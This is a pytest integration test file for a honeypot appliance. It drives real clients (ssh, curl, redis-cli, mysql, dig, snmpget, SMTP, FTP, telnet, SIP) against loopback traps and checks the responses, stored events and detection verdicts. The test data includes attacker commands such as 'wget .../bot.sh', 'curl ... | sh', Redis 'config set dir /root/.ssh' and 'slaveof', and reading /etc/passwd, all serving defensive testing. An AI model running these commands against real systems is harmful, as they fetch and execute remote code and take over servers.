@@ -1,0 +1,418 @@
+"""Real clients, used the way attackers use them, against every trap of a running appliance.
+
+The appliance runs in-process on the real reactor with one trap of each type on loopback; each
+client (OpenSSH with sshpass, curl, redis-cli, the mysql client, dig, snmpget, Python's smtplib
+and ftplib, raw Telnet and SIP over sockets) runs in a thread. Every test checks what the
+attacker sees and what lands in SQLite; the detection pipeline rides the same event bus and its
+verdicts are checked where a trap's policy makes one.
+"""
+
+from __future__ import annotations
+
+import ftplib
+import json
+import re
+import shutil
+import smtplib
+import socket
+import sqlite3
+import subprocess
+import time
+from collections.abc import Generator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import pytest_twisted
+from twisted.internet import reactor, threads
+from twisted.internet.defer import Deferred
+from twisted.internet.task import deferLater
+
+from honeymesh.detection.pipeline import DetectionPipeline
+from honeymesh.events import Verdict
+from honeymesh.tap import Appliance, build_appliance
+from tests.nodes import Node, make_node
+
+TRAPS = """
+[[traps]]
+name = "ssh"
+type = "ssh"
+ports = [0]
+bind = ["127.0.0.1", "::1"]
+
+[[traps]]
+name = "telnet"
+type = "telnet"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "http"
+type = "http"
+ports = [0]
+bind = ["127.0.0.1", "::1"]
+
+[[traps]]
+name = "https"
+type = "tls"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "ftp"
+type = "ftp"
+ports = [0]
+bind = ["127.0.0.1"]
+credentials = ["backup:backup"]
+
+[[traps]]
+name = "smtp"
+type = "smtp"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "redis"
+type = "redis"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "mysql"
+type = "mysql"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "dns"
+type = "dns"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "sip"
+type = "sip"
+ports = [0]
+bind = ["127.0.0.1"]
+
+[[traps]]
+name = "snmp"
+type = "snmp"
+ports = [0]
+bind = ["127.0.0.1"]
+"""
+
+
+def sleep(seconds: float) -> Deferred[None]:
+    return deferLater(reactor, seconds, lambda: None)
+
+
+def need(tool: str) -> str:
+    path = shutil.which(tool)
+    if path is None:
+        pytest.skip(f"{tool} is not installed (scripts/setup.sh test installs it)")
+    return path
+
+
+@pytest.fixture(scope="module")
+def node(tmp_path_factory: pytest.TempPathFactory) -> Node:
+    return make_node(tmp_path_factory.mktemp("traps") / "node", extra=TRAPS)
+
+
+@pytest.fixture(scope="module")
+def running(node: Node) -> Generator[tuple[Appliance, list[Verdict]], None, None]:
+    app = build_appliance(node.config, node.identity, reactor)
+    verdicts: list[Verdict] = []
+    pipeline = DetectionPipeline.from_config(
+        node.config, clock=reactor, publish=app.bus.publish, decide=verdicts.append
+    )
+    app.bus.subscribe(pipeline)
+    app.service.startService()
+    pytest_twisted.blockon(app.store.run(lambda c: None))
+    yield app, verdicts
+    pytest_twisted.blockon(app.service.stopService())
+
+
+@pytest.fixture
+def app(running: tuple[Appliance, list[Verdict]]) -> Appliance:
+    return running[0]
+
+
+def port(app: Appliance, name: str, address: str = "127.0.0.1") -> int:
+    return next(
+        li.info.port for li in app.listeners if li.info.name == name and li.info.address == address
+    )
+
+
+def run(*argv: str, stdin: bytes | None = None, timeout: float = 20) -> Deferred[Any]:
+    return threads.deferToThread(
+        subprocess.run, argv, input=stdin, capture_output=True, timeout=timeout, check=False
+    )
+
+
+@pytest_twisted.inlineCallbacks
+def stored(app: Appliance, node: Node, event_id: str, trap: str, count: int = 1) -> Any:
+    """The stored details of ``event_id`` events from ``trap``, once at least ``count`` are in."""
+    rows: list[dict[str, Any]] = []
+    for _ in range(150):
+        yield app.store.run(lambda c: None)  # everything published before is committed
+        conn = sqlite3.connect(node.config.data_path(node.config.store.path))
+        found = conn.execute(
+            "SELECT body FROM events WHERE event_id = ? ORDER BY id", (event_id,)
+        ).fetchall()
+        conn.close()
+        rows = [json.loads(b)["detail"] for (b,) in found]
+        rows = [r for r in rows if r.get("trap") == trap]
+        if len(rows) >= count:
+            return rows
+        yield sleep(0.02)
+    raise AssertionError(f"only {len(rows)} {event_id} events from {trap} were stored")
+
+
+SSH_OPTS = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+            "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5")  # fmt: skip
+
+
+@pytest_twisted.inlineCallbacks
+def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
+    app: Appliance, node: Node, running: tuple[Appliance, list[Verdict]]
+):
+    need("sshpass")
+    p = str(port(app, "ssh"))
+    bad = yield run("sshpass", "-p", "hunter2", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1", "id")
+    assert bad.returncode == 5 and b"Permission denied" in bad.stderr
+    good = yield run(
+        "sshpass", "-p", "root", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1",
+        "uname -a; cat /proc/cpuinfo | grep name | wc -l",
+    )  # fmt: skip
+    assert good.returncode == 0
+    assert good.stdout.decode().startswith("Linux web01 6.1.0-28-amd64 #1 SMP")
+    assert good.stdout.decode().splitlines()[-1] == "2"
+    shell = yield run(
+        "sshpass", "-p", "root", "ssh", "-tt", *SSH_OPTS, "-p", p, "root@127.0.0.1",
+        stdin=b"whoami\nwget http://203.0.113.9/bot.sh\nexit\n",
+    )  # fmt: skip
+    out = shell.stdout.decode(errors="replace")
+    assert "root@web01:~# " in out and "unable to resolve host address" in out
+    creds = yield stored(app, node, "trap.credential", "ssh", 3)
+    assert [(c["username"], c["password"], c["accepted"]) for c in creds] == [
+        ("root", "hunter2", False),
+        ("root", "root", True),
+        ("root", "root", True),
+    ]
+    assert creds[0]["client_version"].startswith("SSH-2.0-OpenSSH_")
+    commands = yield stored(app, node, "trap.command", "ssh", 4)
+    assert [c["command"] for c in commands] == [
+        "uname -a; cat /proc/cpuinfo | grep name | wc -l",
+        "whoami",
+        "wget http://203.0.113.9/bot.sh",
+        "exit",
+    ]
+    sessions = yield stored(app, node, "trap.session", "ssh", 3)
+    assert all(len(s["hassh"]) == 32 and "curve25519-sha256" in s["kex_offer"]["kex_algorithms"]
+               for s in sessions)  # fmt: skip
+    verdicts = running[1]
+    assert any(v.detector == "ssh" and v.score == 100 for v in verdicts)
+    assert any(
+        v.detector == "payload" and "download-url" in str(v.evidence["rules"]) for v in verdicts
+    )
+    keys = node.config.data_path(Path("traps/ssh"))
+    assert sorted(p.name for p in keys.iterdir()) == ["ssh_host_ed25519_key", "ssh_host_rsa_key"]
+
+
+@pytest_twisted.inlineCallbacks
+def test_curl_over_http_ipv6_and_tls(app: Appliance, node: Node):
+    need("curl")
+    p = port(app, "http")
+    login = yield run("curl", "-s", "-i", f"http://127.0.0.1:{p}/wp-login.php",
+                      "-d", "log=admin&pwd=Winter2024!")  # fmt: skip
+    assert login.stdout.startswith(b"HTTP/1.1 200 OK\r\n")
+    assert b"Server: Apache/2.4.62 (Debian)" in login.stdout
+    v6 = yield run("curl", "-s", "-g", f"http://[::1]:{port(app, 'http', '::1')}/.env")
+    assert b"DB_PASSWORD=" in v6.stdout
+    tls = yield run(
+        "curl", "-sk", "-u", "admin:admin", f"https://127.0.0.1:{port(app, 'https')}/admin"
+    )
+    assert b"<title>Intranet - Sign in</title>" in tls.stdout
+    creds = yield stored(app, node, "trap.credential", "http")
+    assert (creds[0]["username"], creds[0]["password"], creds[0]["method"]) == (
+        "admin",
+        "Winter2024!",
+        "form",
+    )
+    hellos = yield stored(app, node, "tls.client_hello", "https")
+    assert re.fullmatch(r"t13[di]\d{4}(h2|h1)_[0-9a-f]{12}_[0-9a-f]{12}", hellos[0]["ja4"])
+    assert len(hellos[0]["ja3"]) == 32
+    basic = yield stored(app, node, "trap.credential", "https")
+    assert basic[0]["method"] == "basic" and basic[0]["username"] == "admin"
+    requests = yield stored(app, node, "trap.request", "http", 2)
+    assert {r["path"] for r in requests} == {"/wp-login.php", "/.env"}
+    assert requests[0]["user_agent"].startswith("curl/")
+
+
+@pytest_twisted.inlineCallbacks
+def test_redis_cli_attacks_are_answered_and_recorded(app: Appliance, node: Node):
+    need("redis-cli")
+    p = str(port(app, "redis"))
+    out = []
+    for command in (["config", "set", "dir", "/root/.ssh"], ["slaveof", "203.0.113.5", "8886"],
+                    ["module", "load", "/tmp/exp.so"], ["auth", "foobared"]):  # fmt: skip
+        result = yield run("redis-cli", "-h", "127.0.0.1", "-p", p, *command)
+        out.append(result.stdout.decode().strip())
+    assert out[:2] == ["OK", "OK"]
+    assert out[2].startswith("ERR Error loading the extension")
+    assert out[3].startswith("ERR AUTH <password> called without any password configured")
+    sessions = yield stored(app, node, "trap.session", "redis", 4)
+    assert sessions[0]["config_set"] == {"dir": "/root/.ssh"}
+    assert sessions[1]["replicaof"] == "203.0.113.5:8886"
+    creds = yield stored(app, node, "trap.credential", "redis")
+    assert creds[0]["password"] == "foobared"
+
+
+@pytest_twisted.inlineCallbacks
+def test_mysql_client_is_denied_and_its_password_recovered(app: Appliance, node: Node):
+    client = shutil.which("mysql") or need("mariadb")
+    result = yield run(client, "-h", "127.0.0.1", "-P", str(port(app, "mysql")),
+                       "-u", "root", "-ppassword", "-e", "select 1")  # fmt: skip
+    assert b"ERROR 1045 (28000): Access denied for user 'root'@'127.0.0.1'" in result.stderr
+    creds = yield stored(app, node, "trap.credential", "mysql")
+    assert creds[0]["username"] == "root" and creds[0]["password"] == "password"
+    assert creds[0]["password_recovered"] is True
+    assert creds[0]["client_attributes"].get("_client_name")
+
+
+@pytest_twisted.inlineCallbacks
+def test_smtplib_auth_relay_and_a_message(app: Appliance, node: Node):
+    p = port(app, "smtp")
+
+    def attack() -> tuple[int, bytes, dict[str, Any]]:
+        with smtplib.SMTP("127.0.0.1", p, timeout=5) as smtp:
+            _, banner = smtp.ehlo("scanner.test")
+            try:
+                smtp.login("admin", "admin123")
+            except smtplib.SMTPAuthenticationError as e:
+                auth_code = e.smtp_code
+            refused = smtp.sendmail(
+                "x@evil.test", ["root@example.net", "ceo@victim.test"],
+                b"Subject: hi\r\n\r\ncurl http://203.0.113.9/x | sh\r\n",
+            )  # fmt: skip
+        return auth_code, banner, refused
+
+    auth_code, banner, refused = yield threads.deferToThread(attack)
+    assert auth_code == 535 and banner.startswith(b"mail.example.net\nPIPELINING")
+    assert refused == {"ceo@victim.test": (454, b"4.7.1 <ceo@victim.test>: Relay access denied")}
+    creds = yield stored(app, node, "trap.credential", "smtp")
+    assert creds[0]["username"] == "admin" and creds[0]["password"] == "admin123"
+    (message,) = yield stored(app, node, "trap.command", "smtp")
+    assert message["to"] == ["root@example.net"] and "curl http" in message["command"]
+
+
+@pytest_twisted.inlineCallbacks
+def test_ftplib_logins(app: Appliance, node: Node):
+    p = port(app, "ftp")
+
+    def attack() -> tuple[str, str, str]:
+        ftp = ftplib.FTP()
+        welcome = ftp.connect("127.0.0.1", p, timeout=5)
+        try:
+            ftp.login("admin", "admin")
+        except ftplib.error_perm as e:
+            refused = str(e)
+        ftp.close()
+        ftp = ftplib.FTP()
+        ftp.connect("127.0.0.1", p, timeout=5)
+        ftp.login("backup", "backup")
+        where = ftp.pwd()
+        ftp.close()
+        return welcome, refused, where
+
+    welcome, refused, where = yield threads.deferToThread(attack)
+    assert (welcome, refused, where) == ("220 (vsFTPd 3.0.3)", "530 Login incorrect.", "/")
+    creds = yield stored(app, node, "trap.credential", "ftp", 2)
+    assert [(c["username"], c["accepted"]) for c in creds] == [("admin", False), ("backup", True)]
+
+
+@pytest_twisted.inlineCallbacks
+def test_dig_gets_answers_nxdomain_and_any_is_flagged(app: Appliance, node: Node):
+    need("dig")
+    p = str(port(app, "dns"))
+    answer = yield run("dig", "@127.0.0.1", "-p", p, "www.example.net", "+short", "+tries=1")
+    assert answer.stdout.decode().strip() == "192.0.2.10"
+    missing = yield run("dig", "@127.0.0.1", "-p", p, "nothere.example.org", "+tries=1")
+    assert b"status: NXDOMAIN" in missing.stdout
+    probe = yield run(
+        "dig", "@127.0.0.1", "-p", p, "example.net", "ANY", "+notcp", "+tries=1", "+bufsize=4096"
+    )
+    assert b"status: REFUSED" in probe.stdout
+    sessions = yield stored(app, node, "trap.session", "dns", 3)
+    assert [s["qname"] for s in sessions] == [
+        "www.example.net",
+        "nothere.example.org",
+        "example.net",
+    ]
+    assert sessions[2]["amplification_probe"] is True
+    assert all(s["bytes_sent"] <= s["bytes_received"] for s in sessions)
+
+
+@pytest_twisted.inlineCallbacks
+def test_snmpget_with_the_right_and_a_wrong_community(app: Appliance, node: Node):
+    need("snmpget")
+    target = f"127.0.0.1:{port(app, 'snmp')}"
+    right = yield run("snmpget", "-v2c", "-c", "public", "-t", "1", "-r", "0", "-On", target,
+                      "1.3.6.1.2.1.1.1.0")  # fmt: skip
+    # The answer would be 5 bytes longer than the question: never larger, so tooBig it is.
+    assert b"(tooBig) Response message would have been too large" in right.stdout + right.stderr
+    wrong = yield run("snmpget", "-v2c", "-c", "secret", "-t", "1", "-r", "0", target,
+                      "1.3.6.1.2.1.1.5.0")  # fmt: skip
+    assert b"Timeout" in wrong.stdout + wrong.stderr
+    creds = yield stored(app, node, "trap.credential", "snmp", 2)
+    assert [(c["username"], c["accepted"]) for c in creds] == [("public", True), ("secret", False)]
+
+
+@pytest_twisted.inlineCallbacks
+def test_sip_options_scan_like_sipvicious(app: Appliance, node: Node):
+    p = port(app, "sip")
+    request = (
+        b"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5061;branch=z9hG4bK-1;"
+        b'rport\r\nMax-Forwards: 70\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\n'
+        b'From: "sipvicious"<sip:100@1.1.1.1>;tag=6236353838303630\r\nUser-Agent: '
+        b"friendly-scanner\r\nCall-ID: 12345\r\nContact: sip:100@127.0.0.1:5061\r\n"
+        b"CSeq: 1 OPTIONS\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n"
+    )
+
+    def ask() -> bytes:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(5)
+            s.sendto(request, ("127.0.0.1", p))
+            return s.recv(65535)
+
+    reply = yield threads.deferToThread(ask)
+    assert reply.startswith(b"SIP/2.0 200 OK\r\n") and b"Server: Asterisk PBX 18.20.2" in reply
+    assert len(reply) <= len(request)
+    (session,) = yield stored(app, node, "trap.session", "sip")
+    assert session["known_scanner"] is True and session["method"] == "OPTIONS"
+
+
+@pytest_twisted.inlineCallbacks
+def test_telnet_client_negotiates_logs_in_and_runs_commands(app: Appliance, node: Node):
+    p = port(app, "telnet")
+
+    def session() -> bytes:
+        seen = b""
+        with socket.create_connection(("127.0.0.1", p), timeout=5) as s:
+            for send, wait in ((b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x1f", b"login: "),
+                               (b"admin\r\n", b"Password: "), (b"admin\r\n", b"$ "),
+                               (b"cat /etc/passwd | head -n 1\r\n", b"$ "),
+                               (b"exit\r\n", None)):  # fmt: skip
+                s.sendall(send)
+                deadline = time.monotonic() + 5
+                while wait is not None and not seen.endswith(wait) and time.monotonic() < deadline:
+                    seen += s.recv(4096)
+            while chunk := s.recv(4096):
+                seen += chunk
+        return seen
+
+    seen = yield threads.deferToThread(session)
+    assert b"web01 login: " in seen and b"root:x:0:0:root:/root:/bin/bash" in seen
+    commands = yield stored(app, node, "trap.command", "telnet", 2)
+    assert [c["command"] for c in commands] == ["cat /etc/passwd | head -n 1", "exit"]
